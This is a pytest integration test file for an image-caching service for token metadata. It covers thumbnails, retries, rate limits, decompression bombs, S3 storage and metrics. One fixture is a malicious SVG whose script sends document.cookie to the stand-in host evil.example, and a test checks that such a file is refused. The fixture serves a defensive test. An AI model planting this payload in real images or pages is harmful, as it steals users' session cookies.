"""Image jobs run by the real image code against a loopback image host: what is stored, what
the metadata rows say, and how each failure ends without touching the token
(docs/reference-differences.md#image-failures)."""

from __future__ import annotations

import base64
import io
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import boto3
import pytest
from integration.images.images_support import (
    add_image_token,
    image_job,
    metadata_row,
    png,
    png_declaring,
    run_due,
)
from moto import mock_aws
from PIL import Image
from prometheus_client import REGISTRY
from sqlalchemy import func, select, update
from sqlalchemy.orm import Session, sessionmaker
from support.http_server import Reply, ScriptedServer

from shared.config import Settings
from shared.db import session_scope
from shared.errors import InvalidReason
from shared.images.jobs import queue_due_image_jobs
from shared.images.processing import ImageCacher
from shared.models import ImageJob, Job, JobStatus, Metadata, RateLimitedHost
from shared.wiring import build_image_cacher

SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">'
    b"<script>fetch('https://evil.example/?c=' + document.cookie)</script></svg>"
)


def stored(settings: Settings, key: str) -> Image.Image:
    image = Image.open(Path(settings.image_cache_local_dir) / key)
    image.load()
    return image


def make_due(sessions: sessionmaker[Session]) -> None:
    with session_scope(sessions) as s:
        s.execute(update(ImageJob).values(retry_after=func.now()))


def test_png_and_its_thumbnail_are_stored_and_the_metadata_points_at_them(
    cacher: ImageCacher, image_settings: Settings, sessions, host: ScriptedServer
) -> None:
    url = host.route("/1.png", Reply(200, png(600, 400), {"Content-Type": "image/png"}))
    token = add_image_token(sessions, {None: url})
    [outcome] = run_due(cacher)
    assert outcome is not None
    assert outcome.status == JobStatus.DONE
    key = f"{token.principal}/1"
    assert stored(image_settings, f"{key}.png").size == (600, 400)
    assert stored(image_settings, f"{key}-thumb.png").size == (300, 200)
    row = metadata_row(sessions, token.metadata_id)
    assert row.image == url  # the original stays as the metadata said
    assert row.cached_image == f"/metadata/v1/images/{key}.png"
    assert row.cached_thumbnail_image == f"/metadata/v1/images/{key}-thumb.png"
    job = image_job(sessions, token.metadata_id)
    assert (job.status, job.invalid_reason, job.locked_until) == (JobStatus.DONE, None, None)


def test_content_type_is_not_trusted_the_bytes_decide(
    cacher: ImageCacher, image_settings: Settings, sessions, host: ScriptedServer
) -> None:
    """IPFS gateways often say application/octet-stream: a real JPEG is cached anyway, and an
    HTML page that claims to be image/png is refused."""
    jpeg = io.BytesIO()
    Image.new("RGB", (200, 100), (255, 0, 0)).save(jpeg, format="JPEG")
    octet = {"Content-Type": "application/octet-stream"}
    good = add_image_token(sessions, {None: host.route("/a", Reply(200, jpeg.getvalue(), octet))})
    page = b"<html><body>Checking your browser...</body></html>"
    lying = host.route("/b.png", Reply(200, page, {"Content-Type": "image/png"}))
    bad = add_image_token(sessions, {None: lying})
    run_due(cacher)
    assert image_job(sessions, good.metadata_id).status == JobStatus.DONE
    assert stored(image_settings, f"{good.principal}/1.png").format == "PNG"
    job = image_job(sessions, bad.metadata_id)
    assert (job.status, job.invalid_reason) == (JobStatus.FAILED, InvalidReason.IMAGE_PARSE_FAILED)
    assert "not an image" in (job.last_error or "")


def test_a_404_image_keeps_the_metadata_and_is_retried_then_fails(
    cacher: ImageCacher, sessions, host: ScriptedServer
) -> None:
    url = host.url + "/gone.png"  # the scripted host answers 404
    token = add_image_token(sessions, {None: url})  # its token's own job is done
    [outcome] = run_due(cacher)
    assert outcome is not None
    assert outcome.status == JobStatus.PENDING
    job = image_job(sessions, token.metadata_id)
    assert (job.status, job.retry_count) == (JobStatus.PENDING, 1)
    assert job.invalid_reason == InvalidReason.IMAGE_HTTP_ERROR
    assert "HTTP 404" in (job.last_error or "")
    assert job.retry_after is not None
    assert job.retry_after > datetime.now(UTC)
    assert run_due(cacher) == []  # not due yet
    row = metadata_row(sessions, token.metadata_id)
    assert (row.name, row.image, row.cached_image, row.cached_thumbnail_image) == (
        "Token None",
        url,
        None,
        None,
    )
    with session_scope(sessions) as s:
        assert s.scalar(select(Job.status).where(Job.token_id == token.token_id)) == JobStatus.DONE
    for _ in range(2):  # JOB_QUEUE_MAX_RETRIES=2 in these tests
        make_due(sessions)
        run_due(cacher)
    job = image_job(sessions, token.metadata_id)
    assert (job.status, job.invalid_reason) == (JobStatus.FAILED, InvalidReason.IMAGE_HTTP_ERROR)
    assert job.retry_after is None
    assert "gave up after 2 retries" in (job.last_error or "")
    assert host.hits["/gone.png"] == 3
    assert metadata_row(sessions, token.metadata_id).name == "Token None"


def test_svg_with_a_script_is_never_stored(
    cacher: ImageCacher, image_settings: Settings, sessions, host: ScriptedServer
) -> None:
    url = host.route("/art.svg", Reply(200, SVG_WITH_SCRIPT, {"Content-Type": "image/svg+xml"}))
    token = add_image_token(sessions, {None: url})
    run_due(cacher)
    job = image_job(sessions, token.metadata_id)
    assert (job.status, job.invalid_reason) == (JobStatus.FAILED, InvalidReason.IMAGE_PARSE_FAILED)
    assert "SVG" in (job.last_error or "")
    assert not Path(image_settings.image_cache_local_dir).exists()
    assert metadata_row(sessions, token.metadata_id).cached_image is None


def test_a_decompression_bomb_is_refused_with_the_size_reason(
    cacher: ImageCacher, sessions, host: ScriptedServer
) -> None:
    bomb = png_declaring(100_000, 100_000)
    token = add_image_token(sessions, {None: host.route("/bomb.png", Reply(200, bomb))})
    run_due(cacher)
    job = image_job(sessions, token.metadata_id)
    assert (job.status, job.invalid_reason) == (JobStatus.FAILED, InvalidReason.IMAGE_SIZE_EXCEEDED)


def test_a_truncated_image_is_retried_as_a_parse_failure(
    cacher: ImageCacher, sessions, host: ScriptedServer
) -> None:
    whole = io.BytesIO()
    Image.effect_noise((300, 300), 64).save(whole, format="PNG")
    cut = whole.getvalue()[: len(whole.getvalue()) // 2]
    token = add_image_token(sessions, {None: host.route("/cut.png", Reply(200, cut))})
    run_due(cacher)
    job = image_job(sessions, token.metadata_id)
    assert (job.status, job.invalid_reason) == (JobStatus.PENDING, InvalidReason.IMAGE_PARSE_FAILED)
    assert "truncated" in (job.last_error or "")


def test_an_image_over_the_byte_limit_is_refused_without_reading_it_all(
    image_settings: Settings, sessions, host: ScriptedServer
) -> None:
    small = build_image_cacher(replace(image_settings, image_cache_max_byte_size=2000), sessions)
    body = io.BytesIO()
    Image.effect_noise((200, 200), 64).save(body, format="PNG")
    token = add_image_token(sessions, {None: host.route("/big.png", Reply(200, body.getvalue()))})
    run_due(small)
    small.fetcher.close()
    job = image_job(sessions, token.metadata_id)
    assert (job.status, job.invalid_reason) == (JobStatus.FAILED, InvalidReason.IMAGE_SIZE_EXCEEDED)


def test_a_429_remembers_the_host_and_retries_after_it(
    cacher: ImageCacher, sessions, host: ScriptedServer
) -> None:
    url = host.route("/busy.png", Reply(429, b"slow down", {"Retry-After": "120"}))
    token = add_image_token(sessions, {None: url})
    run_due(cacher)
    job = image_job(sessions, token.metadata_id)
    assert (job.status, job.retry_count) == (JobStatus.PENDING, 1)
    assert job.retry_after is not None
    assert 100 < (job.retry_after - datetime.now(UTC)).total_seconds() <= 120
    with session_scope(sessions) as s:
        assert s.scalar(select(RateLimitedHost.hostname)) == "127.0.0.1"
    make_due(sessions)
    run_due(cacher)  # the host is still rate limited: skipped without a request
    assert host.hits["/busy.png"] == 1
    assert image_job(sessions, token.metadata_id).status == JobStatus.PENDING


def test_data_uri_images_are_cached_and_other_media_types_refused(
    cacher: ImageCacher, image_settings: Settings, sessions
) -> None:
    inline = "data:image/png;base64," + base64.b64encode(png(50, 50)).decode()
    good = add_image_token(sessions, {None: inline})
    text = "data:text/plain;base64," + base64.b64encode(png(50, 50)).decode()
    bad = add_image_token(sessions, {None: text})
    run_due(cacher)
    assert image_job(sessions, good.metadata_id).status == JobStatus.DONE
    assert stored(image_settings, f"{good.principal}/1-thumb.png").size == (50, 50)
    job = image_job(sessions, bad.metadata_id)
    assert (job.status, job.invalid_reason) == (JobStatus.FAILED, InvalidReason.IMAGE_PARSE_FAILED)
    assert "text/plain" in (job.last_error or "")


def test_locales_share_the_default_image_or_get_their_own_files(
    cacher: ImageCacher, image_settings: Settings, sessions, host: ScriptedServer
) -> None:
    en = host.route("/en.png", Reply(200, png(40, 40, (255, 0, 0))))
    fr = host.route("/fr.png", Reply(200, png(40, 40, (0, 255, 0))))
    token = add_image_token(sessions, {"en": en, "es": en, "fr": fr})
    assert len(run_due(cacher)) == 2
    urls = {
        locale: metadata_row(sessions, mid).cached_image
        for locale, mid in token.metadata_ids.items()
    }
    base = f"/metadata/v1/images/{token.principal}/1"
    assert urls == {"en": f"{base}.png", "es": f"{base}.png", "fr": f"{base}-fr.png"}
    assert stored(image_settings, f"{token.principal}/1-fr.png").getpixel((1, 1)) == (0, 255, 0)
    assert host.hits["/en.png"] == 1


@pytest.fixture
def s3_bucket(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    with mock_aws():
        client = boto3.client("s3")
        client.create_bucket(Bucket="token-images")
        yield client


def test_s3_storage_receives_the_pngs_and_the_urls_use_the_cdn_base_path(
    image_settings: Settings, sessions, host: ScriptedServer, s3_bucket: Any
) -> None:
    settings = replace(
        image_settings,
        image_cache_storage="s3",
        image_cache_s3_bucket="token-images",
        image_cache_s3_prefix="cache/",
        image_cache_cdn_base_path="https://cdn.example/cache/",
    )
    s3_cacher = build_image_cacher(settings, sessions)
    token = add_image_token(sessions, {None: host.route("/1.png", Reply(200, png(900, 300)))})
    run_due(s3_cacher)
    s3_cacher.fetcher.close()
    key = f"{token.principal}/1"
    thumbnail = s3_bucket.get_object(Bucket="token-images", Key=f"cache/{key}-thumb.png")
    assert thumbnail["ContentType"] == "image/png"
    assert Image.open(io.BytesIO(thumbnail["Body"].read())).size == (300, 100)
    row = metadata_row(sessions, token.metadata_id)
    assert row.cached_image == f"https://cdn.example/cache/{key}.png"
    assert row.cached_thumbnail_image == f"https://cdn.example/cache/{key}-thumb.png"
    assert not Path(settings.image_cache_local_dir).exists()


def test_a_job_whose_metadata_was_replaced_meanwhile_finds_nothing(
    cacher: ImageCacher, sessions, host: ScriptedServer
) -> None:
    token = add_image_token(sessions, {None: host.route("/1.png", Reply(200, png()))})
    with session_scope(sessions) as s:
        [job_id] = queue_due_image_jobs(s, 10)
        s.execute(Metadata.__table__.delete().where(Metadata.token_id == token.token_id))
    assert cacher.run(job_id) is None
    assert host.hits["/1.png"] == 0


def test_a_slow_image_host_is_a_retried_timeout(
    image_settings: Settings, sessions, host: ScriptedServer
) -> None:
    impatient = build_image_cacher(replace(image_settings, metadata_fetch_timeout_ms=200), sessions)
    token = add_image_token(sessions, {None: host.route("/slow.png", Reply(200, png(), delay_s=1))})
    run_due(impatient)
    impatient.fetcher.close()
    job = image_job(sessions, token.metadata_id)
    assert (job.status, job.invalid_reason) == (JobStatus.PENDING, InvalidReason.IMAGE_TIMEOUT)
    assert metadata_row(sessions, token.metadata_id).cached_image is None


def test_image_downloads_are_counted_by_kind_and_outcome(
    cacher: ImageCacher, sessions, host: ScriptedServer
) -> None:
    def count(outcome: str) -> float:
        labels = {"kind": "image", "host_class": "http", "outcome": outcome}
        return REGISTRY.get_sample_value("token_metadata_fetch_outcomes_total", labels) or 0.0

    before = (count("ok"), count("http_error"))
    picture = io.BytesIO()
    Image.new("RGB", (20, 10), (0, 0, 255)).save(picture, format="PNG")
    add_image_token(sessions, {None: host.route("/ok.png", Reply(200, picture.getvalue()))})
    add_image_token(sessions, {None: host.url + "/missing.png"})  # answers 404
    run_due(cacher)
    assert (count("ok"), count("http_error")) == (before[0] + 1, before[1] + 1)
